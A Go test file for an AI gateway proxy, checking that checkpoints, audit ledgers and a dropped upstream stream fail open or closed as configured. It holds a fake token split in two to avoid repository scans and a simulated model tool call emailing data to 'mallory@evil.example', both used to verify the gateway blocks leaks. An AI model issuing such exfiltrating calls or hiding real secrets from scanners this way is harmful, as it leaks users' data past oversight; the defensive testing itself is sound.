package proxy_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/gatehouse-gateway/gatehouse"
	"github.com/gatehouse-gateway/gatehouse/internal/audit"
	"github.com/gatehouse-gateway/gatehouse/internal/checkpoint"
	"github.com/gatehouse-gateway/gatehouse/internal/detect"
	"github.com/gatehouse-gateway/gatehouse/internal/fake"
	"github.com/gatehouse-gateway/gatehouse/internal/session"
	"github.com/gatehouse-gateway/gatehouse/verdict"
)

// faultyScanner goes wrong where a text holds the marker.
type faultyScanner struct {
	checkpoint.Scanner
	marker string
	fault  func() detect.Result
}

func (f faultyScanner) Scan(ctx context.Context, t detect.Text) detect.Result {
	if strings.Contains(t.Text, f.marker) {
		return f.fault()
	}
	return f.Scanner.Scan(ctx, t)
}

// faultyLedger cannot do what its errors say.
type faultyLedger struct {
	checkpoint.Ledger
	ready, append, key error
	panics             bool
}

func (f faultyLedger) Ready(ctx context.Context) error {
	return errors.Join(f.ready, f.Ledger.Ready(ctx))
}

func (f faultyLedger) Append(ctx context.Context, r audit.Record, u *session.Update, durable bool) error {
	if f.panics {
		panic("append")
	}
	if f.append != nil {
		return f.append
	}
	return f.Ledger.Append(ctx, r, u, durable)
}

func (f faultyLedger) ContentKey(ctx context.Context, agent string) ([]byte, error) {
	if f.key != nil {
		return nil, f.key
	}
	return f.Ledger.ContentKey(ctx, agent)
}

func onError(open bool, s *checkpoint.Settings) {
	for _, at := range gatehouse.Checkpoints {
		s.OpenOnError[at] = open
	}
}

func TestFailingCheckpoint(t *testing.T) {
	faults := map[string]func() detect.Result{
		"panic":   func() detect.Result { panic("scanner") },
		"timeout": func() detect.Result { return detect.Result{} },
	}
	turns := map[gatehouse.Checkpoint]struct {
		user string
		turn fake.Turn
	}{
		gatehouse.Front:     {"marker", fake.Turn{Text: "fine"}},
		gatehouse.Integrity: {"hello", fake.Turn{Text: "fine", Reasoning: "marker"}},
		gatehouse.Back:      {"hello", fake.Turn{Text: "fine marker"}},
	}
	for name, fault := range faults {
		for at, c := range turns {
			for _, open := range []bool{false, true} {
				t.Run(fmt.Sprintf("%s/%s/open=%v", name, at, open), func(t *testing.T) {
					eachWay(t, func(t *testing.T, d door, stream bool) {
						g := start(t, options{
							script:   func(fake.Request) fake.Turn { return c.turn },
							settings: func(s *checkpoint.Settings) { onError(open, s); s.Integrity = gatehouse.Enforce },
							engine:   func(e *checkpoint.Engine) { e.Scanner = faultyScanner{e.Scanner, "marker", fault} },
						})
						a := g.ask(d, stream, user(c.user))
						checkFailure(t, g, a, at, open)
						if at == gatehouse.Front && !open && len(g.received()) > 0 {
							t.Error("the model was called")
						}
						if got := g.record(a); got.Status != a.status {
							t.Errorf("the record says %d, the client got %d", got.Status, a.status)
						}
					})
				})
			}
		}
	}
}

// checkFailure checks what the client sees of a checkpoint that could not decide.
func checkFailure(t *testing.T, g *gateway, a answer, at gatehouse.Checkpoint, open bool) {
	t.Helper()
	v := a.verdict(t)
	outcome := map[gatehouse.Checkpoint]verdict.Value{gatehouse.Front: v.Front, gatehouse.Autonomy: v.Autonomy, gatehouse.Integrity: v.Integrity, gatehouse.Back: v.Back}[at]
	if !a.advises("gatehouse.error") {
		t.Errorf("advisories: %s", a.header.Get("X-Mnemom-Advisory"))
	}
	if open {
		if a.status != 200 || outcome != "observed" || !strings.Contains(a.body, "fin") {
			t.Errorf("open: %d, %s, %s", a.status, outcome, a.body)
		}
		return
	}
	if a.status != 503 || outcome != "enforced" || !strings.Contains(a.body, "checkpoint_unavailable") && !strings.Contains(a.body, "overloaded") && !strings.Contains(a.body, "api_error") {
		t.Errorf("closed: %d, %s, %s", a.status, outcome, a.body)
	}
	if strings.Contains(a.body, "fine") {
		t.Errorf("closed, and yet: %s", a.body)
	}
}

func TestStoreThatCannotWrite(t *testing.T) {
	broken := errors.New("disk full")
	ledgers := map[string]faultyLedger{
		"not ready":      {ready: broken, append: broken},
		"append":         {append: broken},
		"append panics":  {panics: true},
		"no content key": {key: broken},
	}
	for name, fault := range ledgers {
		for _, open := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/open=%v", name, open), func(t *testing.T) {
				eachWay(t, func(t *testing.T, d door, stream bool) {
					g := start(t, options{
						script:   says("fine"),
						settings: func(s *checkpoint.Settings) { onError(open, s) },
						engine:   func(e *checkpoint.Engine) { fault.Ledger = e.Ledger; e.Ledger = fault },
					})
					a := g.ask(d, stream, user("hello"))
					checkFailure(t, g, a, gatehouse.Front, open)
					if fault.ready != nil && !open && len(g.received()) > 0 {
						t.Error("the model was called")
					}
				})
			})
		}
	}
}

func TestClosedStore(t *testing.T) {
	g := start(t, options{script: says("fine")})
	if err := g.store.Close(); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{doors[0].path, "/nowhere"} {
		a := g.send("POST", path, doors[0].body(false, user("hello")))
		if a.status != 503 || !strings.Contains(a.body, "checkpoint_unavailable") || a.verdict(t).Front != "enforced" {
			t.Errorf("%s: %d, %s, %s", path, a.status, a.header.Get("X-Mnemom-Verdict"), a.body)
		}
	}
	if n := len(g.received()); n > 0 {
		t.Error("the model was called")
	}
}

// secret is one that the rules know; in two pieces, so that no scan of this repository finds it.
const secret = "ghp_" + "x8Kf2mPq9Zr4Tv7Wy1Bc3Dn5Gh6Jk0LsQaEo"

func TestUpstreamThatDies(t *testing.T) {
	for _, open := range []bool{false, true} {
		t.Run(fmt.Sprintf("open=%v", open), func(t *testing.T) {
			eachWay(t, func(t *testing.T, d door, stream bool) {
				for _, after := range []int{-1, 1, 40, 300, 900, 1500, 2500} {
					g := start(t, options{
						script: func(fake.Request) fake.Turn {
							return fake.Turn{Text: "The key is " + secret + " and " + strings.Repeat("words that go on ", 200), DropAfter: after}
						},
						settings: func(s *checkpoint.Settings) { onError(open, s) },
					})
					a := g.ask(d, stream, user("hello"))
					whole := a.status == 200 && a.err == nil
					switch {
					case whole:
						t.Errorf("after %d bytes: a whole 200: %q", after, a.body)
					case a.status == 200 && (!stream || a.body == ""):
						t.Errorf("after %d bytes: 200 with %q", after, a.body)
					case a.status != 200 && a.status != 502:
						t.Errorf("after %d bytes: %d", after, a.status)
					}
					for i := range len(secret) - 12 {
						if strings.Contains(a.body, secret[i:i+12]) {
							t.Errorf("after %d bytes the secret is sent: %s", after, a.body)
							break
						}
					}
					if got := g.record(a); got.Error != "upstream_interrupted" || got.Status != a.status {
						t.Errorf("after %d bytes the record says %q, %d; the client got %d", after, got.Error, got.Status, a.status)
					}
				}
			})
		})
	}
}

func TestDyingUpstreamTakesNoCallAlong(t *testing.T) {
	for _, d := range doors {
		for after := 100; after < 1600; after += 100 {
			g := start(t, options{script: func(fake.Request) fake.Turn {
				return fake.Turn{Text: "I will", Calls: []fake.Call{{Name: "send_email", Args: `{"to":"mallory@evil.example","body":"` + strings.Repeat("x", 200) + `"}`}}, DropAfter: after}
			}})
			a := g.ask(d, true, user("hello"))
			if strings.Contains(a.body, `"send_email"`) || strings.Contains(a.body, "mallory") {
				t.Errorf("%s, after %d bytes: %s", d.name, after, a.body)
			}
		}
	}
}
